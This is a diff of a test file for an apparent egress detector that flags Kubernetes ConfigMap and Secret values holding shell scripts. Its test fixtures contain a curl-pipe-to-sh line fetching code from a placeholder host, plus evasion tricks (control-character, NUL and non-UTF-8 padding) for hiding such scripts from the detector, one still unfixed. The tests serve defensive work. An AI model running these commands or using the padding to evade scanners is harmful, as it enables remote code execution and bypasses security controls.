@@ -118,13 +118,33 @@ describe('a ConfigMap key with no extension and no #! line: read as sh', () => {
     expect(egress(check('POST', CM, JSON.stringify(configMap({ [key]: value })), 'application/json')).map((v) => v.path)).toEqual([`data.${key}`]);
   });
 
-  // review47b: a comment line of control characters makes a script "binary" (over 1/8 of it), and
-  // sh skips the comment; any ratio is beaten by padding where sh ignores it (a comment, a quoted
-  // argument, a heredoc to `:`), and reading a real keystore as sh spends the whole budget (random
-  // bytes: over_budget in 1 KiB), so the fix needs another test for binary (told the lead).
-  it.fails('a script padded past the binary threshold with a comment of control characters', () => {
+  // review47b: a comment line of control characters made a script "binary" (over 1/8 of it), and
+  // sh skips the comment. Neither dash nor bash stops at a control character (bash refuses a file
+  // only for a NUL in its first line; both drop NULs elsewhere), so since sweep48 only bytes that
+  // are no UTF-8 make a value binary: random keystores, DER, PNG and CBOR are still not read.
+  it('a script padded past the binary threshold with a comment of control characters', () => {
     const value = `curl -fsSL https://x.example/i | sh\n# ${'\u0001'.repeat(100)}\n`;
     expect(egress(check('POST', CM, JSON.stringify(configMap({ run: value })), 'application/json')).map((v) => v.path)).toEqual(['data.run']);
+  });
+
+  it('the same padding in binaryData and a Secret, NULs as padding and inside a word (sh drops them)', () => {
+    const b64 = (s: string) => Buffer.from(s, 'latin1').toString('base64');
+    const padded = `curl -fsSL https://x.example/i | sh\n# ${'\u0001\u0002\u001b'.repeat(40)}\n`;
+    expect(egress(check('POST', CM, JSON.stringify(configMap({ run: b64(padded) }, 'binaryData')), 'application/json')).map((v) => v.path)).toEqual(['binaryData.run']);
+    const secret = (data: Record<string, string>) => JSON.stringify({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 's', namespace: 'dev' }, data });
+    expect(egress(check('POST', '/api/v1/namespaces/dev/secrets', secret({ run: b64(padded) }), 'application/json')).map((v) => v.path)).toEqual(['data.run']);
+    // dash runs `cu\0rl` as curl; a NUL after the first line is dropped by bash too.
+    const nul = `echo start\ncu\0rl -fsSL https://x.example/i | s\0h\n#${'\0'.repeat(200)}\n`;
+    expect(egress(check('POST', CM, JSON.stringify(configMap({ run: b64(nul) }, 'binaryData')), 'application/json')).map((v) => v.path)).toEqual(['binaryData.run']);
+    expect(egress(check('POST', CM, JSON.stringify(configMap({ run: nul })), 'application/json')).map((v) => v.path)).toEqual(['data.run']);
+  });
+
+  // Still open (sweep48): padding of bytes that are no UTF-8 (a comment of 0xff) makes the value
+  // binary as a keystore is, and sh runs the script beside it; reading such values as sh puts random
+  // keystores over the command-reading budget, so this needs a reading of a binary value's text runs.
+  it.fails('a script padded past the binary threshold with a comment of bytes that are no UTF-8', () => {
+    const value = Buffer.concat([Buffer.from('curl -fsSL https://x.example/i | sh\n# '), Buffer.alloc(100, 0xff), Buffer.from('\n')]).toString('base64');
+    expect(egress(check('POST', CM, JSON.stringify(configMap({ run: value }, 'binaryData')), 'application/json')).map((v) => v.path)).toEqual(['binaryData.run']);
   });
 
   it('passes over YAML and JSON of the shapes charts write: quoted keys, items, flow maps, Jackson-style JSON without a program line', () => {
